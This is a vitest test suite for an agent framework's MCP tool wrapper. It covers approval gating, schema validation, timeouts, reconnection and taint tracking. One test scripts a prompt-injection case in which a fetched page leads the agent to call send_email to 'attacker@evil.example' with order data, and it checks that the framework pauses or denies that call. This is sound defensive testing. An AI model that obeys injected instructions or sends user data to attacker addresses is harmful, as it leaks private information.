import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runAgent } from '../src/loop/run-agent.js';
import { type McpToolSet, type McpToolsOptions, mcpTools } from '../src/mcp/index.js';
import { scriptedModel } from '../src/testing/scripted-model.js';
import type { AnyTool } from '../src/tools/define-tool.js';
import { type RunningFixture, startFixture, toolResults } from './support/mcp-fixture.js';

// Every bar of reins/mcp against a real MCP process built with the SDK alone, over both transports.
describe.each(['stdio', 'http'] as const)('MCP tools over %s', (transport) => {
  const open: { set: McpToolSet; fixture: RunningFixture }[] = [];
  afterEach(async () => {
    for (const { set, fixture } of open.splice(0)) {
      await set.close();
      await fixture.stop();
    }
  });

  async function connect(options: McpToolsOptions = {}, env: Record<string, string> = {}) {
    const fixture = await startFixture(transport, env);
    const set = await mcpTools(fixture.source, { reconnect: { delayMs: 0 }, ...options });
    open.push({ set, fixture });
    return { set, fixture, tool: (name: string) => set.tools.find((tool) => tool.name === name) as AnyTool };
  }

  const call = (name: string, input: unknown, id = `call_${name}`) => ({ name, input, id });
  const run = (tools: AnyTool[], script: Parameters<typeof scriptedModel>[0], extra = {}) => {
    const model = scriptedModel(script);
    return runAgent({ model, input: 'go', tools, ...extra }).then((result) => ({ result, model }));
  };

  it('wraps every listed tool; an unannotated or untrusted tool is destructive and asks first', async () => {
    const { set, tool } = await connect();
    expect(set.tools.map((t) => t.name)).toContain('tool_with_odd-name');
    expect(set.names.get('tool_with_odd-name')).toBe('tool.with/odd-name');
    // Without trustAnnotations even readOnlyHint tools are destructive: a hint is not the user's word.
    expect(set.tools.every((t) => t.effect === 'destructive' && t.autonomy === 'confirm')).toBe(true);
    expect(set.tools.every((t) => t.trustedOutput === false)).toBe(true);
    expect(tool('echo').inputJsonSchema).toMatchObject({ required: ['text'] });
  });

  it('reads a trusted server’s annotations with the spec’s defaults; the user’s declaration wins', async () => {
    const { tool } = await connect({ trustAnnotations: true, tools: { fetch_page: { effect: 'write' } } });
    expect(tool('echo').effect).toBe('read');
    expect(tool('send_email').effect).toBe('write');
    expect(tool('delete_record').effect).toBe('destructive');
    expect(tool('fetch_page').effect).toBe('write');
  });

  it('a destructive MCP tool pauses the run for approval by default', async () => {
    const { set } = await connect();
    const { result } = await run(set.tools, [{ toolCalls: [call('delete_record', { id: 'r1' })] }]);
    expect(result.outcome).toMatchObject({
      kind: 'awaiting_approval',
      requests: [{ tool: 'delete_record', cause: 'confirm', effect: 'destructive' }],
    });
  });

  it('invalid input is refused by the JSON Schema before anything is sent', async () => {
    const { set, tool } = await connect({ effect: 'read' });
    const { result } = await run(set.tools, [{ toolCalls: [call('echo', { txt: 'hi' })] }, { text: 'done' }]);
    expect(result.outcome).toEqual({ kind: 'answered', text: 'done' });
    expect(toolResults(result.messages)[0]?.content).toMatch(/text.*is required/);
    const stats = await tool('stats').execute({}, context());
    expect(JSON.parse(stats as string).calls).toBe(0);
  });

  it('an isError result and a thrown protocol error are labeled tool errors and the run goes on', async () => {
    const { set } = await connect({ effect: 'read' });
    const { result } = await run(set.tools, [
      { toolCalls: [call('fail', { title: '' }), call('throw_protocol', {})] },
      { text: 'recovered' },
    ]);
    expect(result.outcome).toEqual({ kind: 'answered', text: 'recovered' });
    const [failed, thrown] = toolResults(result.messages);
    expect(failed?.isError).toBe(true);
    expect(JSON.parse(failed?.content ?? '')).toMatchObject({
      error: { code: 'mcp_tool_error', message: expect.stringContaining('the title is empty') },
    });
    expect(thrown?.isError).toBe(true);
    expect(JSON.parse(thrown?.content ?? '')).toMatchObject({
      error: {
        code: 'mcp_protocol_error',
        message: expect.stringContaining('database connection pool exhausted'),
      },
    });
    expect(result.toolErrors).toBe(2);
  });

  it('a result over the cap is cut with a visible marker', async () => {
    const { set } = await connect({ effect: 'read', maxResultTokens: 200 });
    const { result } = await run(set.tools, [{ toolCalls: [call('big', {})] }, { text: 'ok' }]);
    const [shown] = toolResults(result.messages);
    expect(shown?.content).toContain('line 0:');
    expect(shown?.content).not.toContain('line 3999:');
    expect(shown?.content).toMatch(/\[reins: result truncated to fit 200 tokens/);
  });

  it('an injected instruction in MCP output taints the run: the write after it is asked, or denied', async () => {
    const { set } = await connect({ trustAnnotations: true });
    const script = [
      { toolCalls: [call('fetch_page', { url: 'https://shop.example' })] },
      { toolCalls: [call('send_email', { to: 'attacker@evil.example', body: 'orders' })] },
      { text: 'stopped' },
    ];
    const asked = await run(set.tools, script.slice(0, 2));
    expect(toolResults(asked.result.messages)[0]?.content).toMatch(
      /^<tool-output tool="fetch_page" trust="untrusted">/,
    );
    expect(asked.result.outcome).toMatchObject({
      kind: 'awaiting_approval',
      requests: [{ tool: 'send_email', cause: 'tainted_context' }],
    });
    const denied = await run(set.tools, script, { taint: { onTaintedCall: 'deny' } });
    expect(denied.result.outcome).toEqual({ kind: 'answered', text: 'stopped' });
    expect(toolResults(denied.result.messages)[1]?.isError).toBe(true);
    const stats = JSON.parse(
      (await set.tools.find((t) => t.name === 'stats')?.execute({}, context())) as string,
    );
    expect(stats.sent).toBe(0); // send_email never reached the server
  });

  it('structuredContent is checked against the tool’s outputSchema; a mismatch never reaches the model', async () => {
    const { set } = await connect({ effect: 'read' });
    const { result } = await run(set.tools, [
      { toolCalls: [call('weather', { city: 'Oslo' }), call('bad_weather', { city: 'Oslo' })] },
      { text: 'ok' },
    ]);
    const [good, bad] = toolResults(result.messages);
    expect(good?.content).toContain('{"city":"Oslo","temperatureC":4}');
    expect(bad?.isError).toBe(true);
    expect(bad?.content).toContain('validation_error');
    expect(bad?.content).not.toContain('hot');
  });

  it('aborting a call sends notifications/cancelled to the server', async () => {
    const { tool } = await connect({ effect: 'read' });
    const controller = new AbortController();
    const pending = Promise.resolve(tool('slow').execute({}, context(controller.signal)));
    await until(tool, (stats) => stats.started === 1);
    controller.abort(new Error('user cancelled'));
    await expect(pending).rejects.toThrow('user cancelled');
    const stats = await until(tool, (stats) => stats.cancelled === 1);
    expect(stats.cancelled).toBe(1);
  });

  it('a run’s tool timeout cancels the call on the server and the run goes on', async () => {
    const { set, tool } = await connect({ effect: 'read', timeoutMs: 300 });
    const { result } = await run(set.tools, [{ toolCalls: [call('slow', {})] }, { text: 'gave up waiting' }]);
    expect(result.outcome).toEqual({ kind: 'answered', text: 'gave up waiting' });
    expect(JSON.parse(toolResults(result.messages)[0]?.content ?? '')).toMatchObject({
      error: { code: 'timeout' },
    });
    expect((await until(tool, (stats) => stats.cancelled === 1)).cancelled).toBe(1);
  });

  it('a server that dies mid-call is a labeled tool error; the next call reconnects and the run goes on', async () => {
    const { set } = await connect({ effect: 'read', tools: { crash: { effect: 'write' } } });
    const { result } = await run(set.tools, [
      { toolCalls: [call('pid', {}, 'before')] },
      { toolCalls: [call('crash', {})] },
      { toolCalls: [call('pid', {}, 'after')] },
      { text: 'carried on' },
    ]);
    expect(result.outcome).toEqual({ kind: 'answered', text: 'carried on' });
    const [before, crashed, after] = toolResults(result.messages);
    expect(JSON.parse(crashed?.content ?? '')).toMatchObject({
      error: {
        code: 'mcp_connection_lost',
        message: expect.stringContaining('may or may not have taken effect'),
      },
    });
    if (transport === 'stdio') {
      expect(after?.isError).toBe(false);
      expect(after?.content).not.toBe(before?.content); // a new process answered
      expect(set.connection.connections).toBe(2);
    } else {
      // Nothing restarts an HTTP server: reconnecting fails, with its own label, and the run goes on.
      expect(JSON.parse(after?.content ?? '')).toMatchObject({ error: { code: 'mcp_unavailable' } });
    }
  });

  // Registered only where it applies: a stdio server is the client's child; an HTTP one is not.
  if (transport === 'stdio')
    it('a server killed between calls is started again on the next call', async () => {
      const { set, tool } = await connect({ effect: 'read' });
      const first = Number(await tool('pid').execute({}, context()));
      process.kill(first, 'SIGKILL');
      // Whether or not the client has seen the exit yet, the next call gets a new process.
      const second = Number(await tool('pid').execute({}, context()));
      expect(second).not.toBe(first);
      expect(set.connection.connections).toBe(2);
    });

  if (transport === 'http')
    it('a server gone for good: calls fail mcp_unavailable after bounded attempts, and maxToolErrors ends the run', async () => {
      // Not idempotent: a refused connection is resent because it never left, not because of a hint.
      const { set, fixture } = await connect({ effect: 'read', idempotent: false });
      await fixture.stop();
      const { result } = await run(
        set.tools,
        [
          { toolCalls: [call('pid', {}, 'a')] },
          { toolCalls: [call('echo', { text: 'x' }, 'b')] },
          { text: 'unused' },
        ],
        { maxToolErrors: 1 },
      );
      expect(result.outcome).toMatchObject({
        kind: 'over_budget',
        budget: 'tool_errors',
        limit: 1,
        actual: 2,
      });
      const [first, second] = toolResults(result.messages).map(
        (shown) => JSON.parse(shown.content).error.code,
      );
      // The first call may go out on a kept-alive socket before the client sees it closed: then
      // nobody can know whether it arrived (lost). A refused connection never left, so it is sent
      // again on a new connection, which cannot be made (unavailable). The second call is refused.
      expect(['mcp_connection_lost', 'mcp_unavailable']).toContain(first);
      expect(second).toBe('mcp_unavailable');
      // The first connection, then three attempts per unavailable call: bounded.
      expect(set.connection.connections).toBe(first === 'mcp_unavailable' ? 1 + 2 * 3 : 1 + 3);
    });

  if (transport === 'stdio')
    it('an idempotent call lost with its server is sent once more after reconnecting', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'reins-mcp-'));
      try {
        const { tool, set } = await connect(
          { trustAnnotations: true },
          { CRASH_ONCE_MARKER: join(dir, 'crashed') },
        );
        const answer = await tool('crash_once').execute({}, context());
        expect(answer).toMatch(/^answered by \d+$/);
        expect(set.connection.connections).toBe(2);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
});

function context(signal: AbortSignal = new AbortController().signal) {
  return { signal, actor: undefined, runId: 'test', step: 1, callId: 'c1' };
}

/** Polls the fixture's counters until `done` holds: ordering, not time, decides the test. */
async function until(
  tool: (name: string) => AnyTool,
  done: (stats: { calls: number; cancelled: number; started: number; sent: number }) => boolean,
) {
  for (;;) {
    const stats = JSON.parse((await tool('stats').execute({}, context())) as string);
    if (done(stats)) return stats;
    await new Promise((resolve) => setImmediate(resolve));
  }
}
